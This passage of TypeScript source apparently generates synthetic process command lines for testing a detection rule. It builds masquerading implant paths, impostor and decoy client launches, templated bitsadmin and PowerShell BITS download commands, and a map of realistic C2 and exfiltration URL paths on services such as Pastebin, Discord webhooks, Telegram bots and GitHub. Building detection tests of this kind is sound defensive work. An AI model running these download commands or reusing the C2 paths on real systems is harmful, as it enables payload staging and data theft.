        `"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Crypto\\Keys\\CryptSvcHost.exe" --cfg ${u}`,
    ],
    withoutUrl: [
      '"C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Crypto\\Keys\\CryptSvcHost.exe" -k',
    ],
  },
  {
    weight: 2,
    reach: 'high',
    bin: 'implantProgramData',
    parent: 'taskhostw',
    account: 'user',
    withUrl: [(u) => `C:\\ProgramData\\IntelGraphics\\igfxCUIsvc.exe /s /u ${u}`],
    withoutUrl: ['C:\\ProgramData\\IntelGraphics\\igfxCUIsvc.exe /s'],
  },
  {
    weight: 2,
    reach: 'high',
    bin: 'implantPublic',
    parent: 'svchost',
    account: 'user',
    withUrl: [(u) => `C:\\Users\\Public\\Libraries\\RuntimeBroker.exe -Embedding -p "${u}"`],
    withoutUrl: ['C:\\Users\\Public\\Libraries\\RuntimeBroker.exe -Embedding'],
  },
  {
    weight: 2,
    reach: 'high',
    bin: 'implantTemp',
    parent: 'explorer',
    account: 'user',
    withUrl: [
      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\7zS4A21\\setup.exe" /quiet /feed=${u}`,
    ],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\7zS4A21\\setup.exe" /quiet'],
  },
  {
    weight: 1,
    reach: 'high',
    bin: 'implantDownloads',
    parent: 'explorer',
    account: 'user',
    withUrl: [(u) => `"C:\\Users\\{u}\\Downloads\\Invoice_2024-03_scan.exe" --open ${u}`],
    withoutUrl: ['"C:\\Users\\{u}\\Downloads\\Invoice_2024-03_scan.exe" '],
  },
  {
    weight: 1,
    reach: 'high',
    bin: 'implantTasks',
    parent: 'svchost',
    account: 'system',
    withUrl: [(u) => `C:\\Windows\\Tasks\\wmihost.exe ${u}`],
    withoutUrl: ['C:\\Windows\\Tasks\\wmihost.exe -service'],
  },
];

/**
 * An excluded client's name away from that client's home (SPEC §1 clause 3): not excluded. A
 * slack.exe in AppData\Roaming started by Outlook matches any tier (branch b); the others only
 * the high tier (branch c).
 */
export const ATTACK_IMPOSTORS: readonly AttackSpec[] = [
  {
    weight: 3,
    reach: 'any',
    bin: 'impostorSlack',
    parent: 'outlook',
    account: 'user',
    withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Roaming\\slack.exe" --update-url=${u}`],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Roaming\\slack.exe" --startup'],
  },
  {
    weight: 2,
    reach: 'high',
    bin: 'impostorOneDrive',
    parent: 'explorer',
    account: 'user',
    withUrl: [(u) => `C:\\Users\\Public\\OneDrive.exe /sync ${u}`],
    withoutUrl: ['C:\\Users\\Public\\OneDrive.exe /background'],
  },
  {
    weight: 1,
    reach: 'high',
    bin: 'impostorTeams',
    parent: 'explorer',
    account: 'user',
    withUrl: [(u) => `"C:\\ProgramData\\Teams\\Teams.exe" --url ${u}`],
    withoutUrl: ['"C:\\ProgramData\\Teams\\Teams.exe" --system-initiated'],
  },
  {
    weight: 1,
    reach: 'high',
    bin: 'impostorDefender',
    parent: 'cmd',
    account: 'user',
    withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\MsMpEng.exe" -u ${u}`],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\MsMpEng.exe" '],
  },
];

/**
 * Decoys: excluded clients at home doing what looks like an attack (a link in a document or a
 * mail opens the browser on a paste site; Slack or Teams started from Outlook). Excluded before
 * any branch is considered (SPEC §1 clause 3): they must never match.
 */
export const HOME_CLIENTS: readonly AttackSpec[] = [
  {
    weight: 3,
    reach: 'none',
    bin: 'chrome',
    parent: 'winword',
    account: 'user',
    withUrl: [
      (u) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument ${u}`,
    ],
    withoutUrl: ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" '],
  },
  {
    weight: 2,
    reach: 'none',
    bin: 'msedge',
    parent: 'outlook',
    account: 'user',
    withUrl: [
      (u) =>
        `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument ${u}`,
    ],
    withoutUrl: ['"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" '],
  },
  {
    weight: 2,
    reach: 'none',
    bin: 'slack',
    parent: 'outlook',
    account: 'user',
    withUrl: [
      (u) =>
        `"C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.36.140\\slack.exe" --protocol-launcher ${u}`,
    ],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\slack\\app-4.36.140\\slack.exe" '],
  },
  {
    weight: 1,
    reach: 'none',
    bin: 'teams',
    parent: 'outlook',
    account: 'user',
    withUrl: [
      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" -- ${u}`,
    ],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" '],
  },
  {
    weight: 1,
    reach: 'none',
    bin: 'onedrive',
    parent: 'explorer',
    account: 'user',
    withUrl: [
      (u) => `"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /url:${u}`,
    ],
    withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'],
  },
];

/** Downloads that leave no network event of their own: the command line is the only trace. */
export const FETCH_ONLY: readonly FetchSpec[] = [
  {
    weight: 4,
    reach: 'any',
    bin: 'bitsadmin',
    parent: 'cmd',
    account: 'user',
    maxUrls: 2,
    cmd: (urls) =>
      `bitsadmin.exe /transfer upd{r} /download /priority foreground ${urls.map((u, i) => `${u} C:\\Users\\Public\\{r}${i}.dat`).join(' ')}`,
  },
  {
    weight: 2,
    reach: 'any',
    bin: 'powershell',
    parent: 'cmd',
    account: 'user',
    maxUrls: 2,
    cmd: (urls) =>
      `powershell.exe -nop -c "${urls.map((u, i) => `Start-BitsTransfer -Source '${u}' -Destination $env:APPDATA\\{r}${i}.bin`).join('; ')}"`,
  },
  {
    weight: 1,
    reach: 'any',
    reachWithoutIdentity: 'high',
    bin: 'renamedBitsadmin',
    parent: 'cmd',
    account: 'user',
    maxUrls: 1,
    cmd: ([u]) =>
      `C:\\Users\\{u}\\AppData\\Local\\Temp\\wupdmgr.exe /transfer j{r} /download ${u} C:\\Users\\{u}\\AppData\\Local\\Temp\\{r}.exe`,
  },
];

/** URL paths per C2 service, so command lines look like the real abuse. */
export function c2Path(domain: string, token: string): string {
  if (domain.endsWith('pastebin.com') || domain === 'paste.ee' || domain === 'ghostbin.co')
    return `/raw/${token}`;
  if (domain === 'raw.githubusercontent.com') return `/${token}/tools/main/stage2.ps1`;
  if (domain === 'gist.github.com') return `/${token}/raw/loader.txt`;
  if (domain === 'api.github.com') return `/repos/${token}/notes/issues/1/comments`;
  if (domain.includes('discord')) return `/api/webhooks/1203${token}/Xq9${token}`;
  if (domain === 'api.telegram.org') return `/bot6${token}:AAH${token}/sendMessage`;
  if (domain.includes('slack.com')) return `/services/T0${token}/B0${token}/${token}`;
  if (domain.includes('googleapis.com')) return `/drive/v3/files/${token}?alt=media`;
  if (domain === 'drive.google.com') return `/uc?export=download&id=${token}`;
  if (domain.includes('dropboxapi.com')) return `/2/files/download?arg=${token}`;
  if (domain.includes('onedrive') || domain.includes('graph.microsoft.com'))
    return `/v1.0/me/drive/items/${token}/content`;
  if (domain.includes('firebaseio.com')) return `/beacons/${token}.json`;
  if (domain.includes('notion')) return `/v1/blocks/${token}/children`;
  if (domain === 'gitee.com') return `/${token}/cfg/raw/master/c.txt`;
  if (domain === 'github.com') return `/${token}/tools/releases/download/v1.2/agent.zip`;
  if (domain === 'objects.githubusercontent.com')
    return `/github-production-release-asset-2e65be/${token}/agent.zip`;
  if (domain === 't.me') return `/s/${token}_news`;
  if (domain === 'steamcommunity.com') return `/profiles/7656119${token}`;
  if (domain === 'script.google.com') return `/macros/s/AKfycb${token}/exec`;
  if (domain === 'docs.google.com') return `/document/d/${token}/export?format=txt`;
  if (domain === 'api.trello.com') return `/1/cards/${token}/attachments`;
  if (domain === 'rentry.co') return `/${token}/raw`;
  if (domain === '1drv.ms') return `/u/s!A${token}`;
  if (domain.endsWith('sharepoint.com'))
    return `/personal/it_contoso_com/_layouts/15/download.aspx?share=${token}`;
  if (domain.includes('dropbox')) return `/s/${token}/update.bin?dl=1`;
  return `/${token}`;
}
